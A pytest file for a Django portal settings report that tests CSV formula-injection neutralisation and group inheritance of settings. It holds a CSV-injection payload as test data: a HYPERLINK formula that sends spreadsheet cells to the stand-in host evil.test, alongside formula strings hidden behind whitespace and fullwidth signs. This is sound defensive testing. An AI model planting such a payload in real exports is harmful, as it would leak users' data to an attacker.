"""What each cell of the Portal settings report says: formulas neutralised in the CSV, and a
client without a group resolved on their own next to a client in a group."""

import csv
import io

import pytest
from django.urls import reverse

from portal_settings.models import PortalSettings
from portal_settings.report import csv_safe
from portal_settings.sections import SECTIONS
from tests.factories import ClientFactory, ClientGroupFactory, UserFactory

pytestmark = pytest.mark.django_db

CSV = reverse("portal_settings:report-csv")
REPORT = reverse("portal_settings:report")
HYPERLINK = '=HYPERLINK("http://evil.test/?d="&B3&C3,"Click for details")'


def rows_of(response):
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_a_spreadsheet_would_run_is_prefixed(start):
    assert csv_safe(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize(
    "text",
    [
        " =1+1",  # a space: spreadsheets that trim the cell run what follows
        "   +1+1",
        " \t@SUM(1+1)",
        "\n=1+1",
        "\u00a0=1+1",  # no-break space
        "\u3000-1+1",  # ideographic space
        "\u200b=1+1",  # zero-width space
        "\ufeff=1+1",  # byte order mark
        "\uff1d1+1",  # fullwidth equals sign, which Excel reads as "=" in some locales
        "\uff0b1+1",
        "\uff0d1+1",
        "\uff201+1",
    ],
)
def test_a_formula_behind_whitespace_or_in_fullwidth_is_prefixed(text):
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["Lopez, Ana", "ana@example.test", "Group: Teens", "", "1", " Ana", "Teens - 2026"]
)
def test_ordinary_cells_are_left_alone(text):
    assert csv_safe(text) == text


def test_a_client_named_as_a_formula_is_text_in_the_csv(admin_http, organization):
    group = ClientGroupFactory(organization=organization, name="@SUM(1+1)")
    ClientFactory(
        organization=organization,
        group=group,
        user=UserFactory(last_name=HYPERLINK, first_name="-2+3"),
    )
    header, row = rows_of(admin_http.get(CSV))
    assert row[0] == "'" + HYPERLINK + ", -2+3"
    assert row[2] == "'@SUM(1+1)"
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in header + row)


def test_a_client_named_as_a_formula_behind_a_space_is_text_in_the_csv(admin_http, organization):
    ClientFactory(
        organization=organization,
        group=ClientGroupFactory(organization=organization, name="\t=1+1"),
        user=UserFactory(last_name=" " + HYPERLINK, first_name="Ana"),
    )
    _header, row = rows_of(admin_http.get(CSV))
    assert row[0] == "' " + HYPERLINK + ", Ana"
    assert row[2] == "'\t=1+1"


def test_a_client_without_a_group_next_to_one_in_a_group(admin_http, organization):
    teens = ClientGroupFactory(organization=organization, name="Teens")
    PortalSettings.objects.create(group=teens, values={"billing": "off"})
    ClientFactory(organization=organization, group=teens, user=UserFactory(last_name="Alpha"))
    ClientFactory(organization=organization, user=UserFactory(last_name="Bravo"))
    ClientFactory(organization=organization, group=teens, user=UserFactory(last_name="Charlie"))

    rows = {row[0].split(",")[0]: row for row in rows_of(admin_http.get(CSV))[1:]}
    # Client, Email, Group, Audience, Family member, Relationship, Family access, then each
    # section's value and source.
    billing = 7 + 2 * [section.key for section in SECTIONS].index("billing")
    assert [rows[name][2] for name in ("Alpha", "Bravo", "Charlie")] == ["Teens", "", "Teens"]
    assert [rows[name][billing : billing + 2] for name in ("Alpha", "Bravo", "Charlie")] == [
        ["Off", "Inherited from Teens: Off"],
        ["Full", "Inherited from practice: Full"],
        ["Off", "Inherited from Teens: Off"],
    ]

    page = admin_http.get(REPORT)
    by_name = {row.client.user.last_name: row.effective for row in page.context["rows"]}
    assert by_name["Bravo"]["billing"].enabled and not by_name["Alpha"]["billing"].enabled
    assert by_name["Bravo"]["billing"].label == "Inherited from practice: Full"
    assert by_name["Charlie"]["billing"].label == "Inherited from Teens: Off"
